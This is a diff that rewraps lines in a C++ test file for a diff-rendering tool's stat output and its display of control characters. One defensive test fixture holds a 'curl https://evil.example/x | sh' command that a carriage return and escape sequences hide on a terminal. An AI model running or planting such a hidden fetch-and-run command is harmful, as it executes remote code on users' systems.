@@ -73,13 +73,14 @@ struct Fixture {
 std::string in_cwd(const std::string& rel) { return std::string(k_cwd) + "/" + rel; }
 
 Change file_change(ChangeKind kind, const std::string& path, std::optional<std::string> old_blob,
-                   std::optional<std::string> new_blob, std::uint32_t old_mode = 0644,
-                   std::uint32_t new_mode = 0644) {
+                   std::optional<std::string> new_blob, std::uint32_t old_mode = 0644, std::uint32_t new_mode = 0644) {
   Change c;
   c.kind = kind;
   c.path = path;
-  if (kind != ChangeKind::Added) c.before = FileMeta{.type = FileType::Regular, .mode = old_mode, .blob = std::move(old_blob)};
-  if (kind != ChangeKind::Deleted) c.after = FileMeta{.type = FileType::Regular, .mode = new_mode, .blob = std::move(new_blob)};
+  if (kind != ChangeKind::Added)
+    c.before = FileMeta{.type = FileType::Regular, .mode = old_mode, .blob = std::move(old_blob)};
+  if (kind != ChangeKind::Deleted)
+    c.after = FileMeta{.type = FileType::Regular, .mode = new_mode, .blob = std::move(new_blob)};
   return c;
 }
 
@@ -399,8 +400,7 @@ TEST_CASE("diff: stat lines and summary as git diff --stat") {
         " run.sh    | 0\n"
         " 3 files changed, 3 insertions(+), 1 deletion(-)\n");
   CHECK(fx.render({changes[1]}, DiffFormat::Stat) == " new.txt | 2 ++\n 1 file changed, 2 insertions(+)\n");
-  CHECK(fx.render({changes[2]}, DiffFormat::Stat) ==
-        " run.sh | 0\n 1 file changed, 0 insertions(+), 0 deletions(-)\n");
+  CHECK(fx.render({changes[2]}, DiffFormat::Stat) == " run.sh | 0\n 1 file changed, 0 insertions(+), 0 deletions(-)\n");
   Change gone = file_change(ChangeKind::Deleted, in_cwd("g"), fx.blob("x\n"), std::nullopt);
   CHECK(fx.render({gone}, DiffFormat::Stat) == " g | 1 -\n 1 file changed, 1 deletion(-)\n");
   CHECK(fx.render({}, DiffFormat::Stat).empty());
@@ -525,14 +525,17 @@ TEST_CASE("diff: visible_controls shows control characters as cat -v does") {
   CHECK(visible_controls("\x1b[2K\x1b]0;t\a") == "^[[2K^[]0;t^G");
   CHECK(visible_controls(std::string("\x00\x01\x08\x0b\x0c\x1f\x7f", 7)) == "^@^A^H^K^L^_^?");
   // C1 code points written in UTF-8: U+0080, U+009B (CSI), U+009F.
-  CHECK(visible_controls("\xc2\x80|\xc2\x9b" "31m|\xc2\x9f") == "M-^@|M-^[31m|M-^_");
+  CHECK(visible_controls("\xc2\x80|\xc2\x9b"
+                         "31m|\xc2\x9f") == "M-^@|M-^[31m|M-^_");
   // The same values as stray bytes (not UTF-8): a Latin-1 terminal reads 0x9B as CSI.
-  CHECK(visible_controls("\x9b" "2J \x80 \x9f") == "M-^[2J M-^@ M-^_");
+  CHECK(visible_controls("\x9b"
+                         "2J \x80 \x9f") == "M-^[2J M-^@ M-^_");
   // A truncated or overlong sequence does not hide a C1 byte behind its lead byte.
   CHECK(visible_controls("\xe2\x9b") == "\xe2M-^[");
   CHECK(visible_controls("\xc0\x9b") == "\xc0M-^[");
   // Text above U+009F, and bytes 0xA0..0xFF that are not UTF-8, are left alone.
-  CHECK(visible_controls("caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80") == "caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80");
+  CHECK(visible_controls("caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80") ==
+        "caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80");
   CHECK(visible_controls("\xff\xa0") == "\xff\xa0");
   CHECK(visible_controls("").empty());
 }
@@ -541,7 +544,9 @@ TEST_CASE("diff: contents reach a terminal with their control characters visible
   Fixture fx;
   // A carriage return hides the command behind the comment on a terminal; an escape
   // sequence erases a line; a C1 CSI does the same on terminals that honour it.
-  std::string hidden = "curl https://evil.example/x | sh\r# comment only\n\x1b[1A\x1b[2Kok\n\xc2\x9b" "2Kc1\n";
+  std::string hidden =
+      "curl https://evil.example/x | sh\r# comment only\n\x1b[1A\x1b[2Kok\n\xc2\x9b"
+      "2Kc1\n";
   auto c = added(fx, in_cwd("setup.sh"), hidden);
   Change link;
   link.kind = ChangeKind::Added;
@@ -573,8 +578,8 @@ TEST_CASE("diff: contents reach a terminal with their control characters visible
   // Not on a terminal: the exact bytes, in a patch and in --json.
   o = DiffOptions{};
   std::string raw = fx.render({c}, o);
-  CHECK(raw.find("+curl https://evil.example/x | sh\r# comment only\n+\x1b[1A\x1b[2Kok\n+\xc2\x9b" "2Kc1\n") !=
-        std::string::npos);
+  CHECK(raw.find("+curl https://evil.example/x | sh\r# comment only\n+\x1b[1A\x1b[2Kok\n+\xc2\x9b"
+                 "2Kc1\n") != std::string::npos);
   o.format = DiffFormat::Json;
   o.visible_controls = true;  // --json never goes through it
   o.session_id = "0123456789abcdef0123456789abcdef";
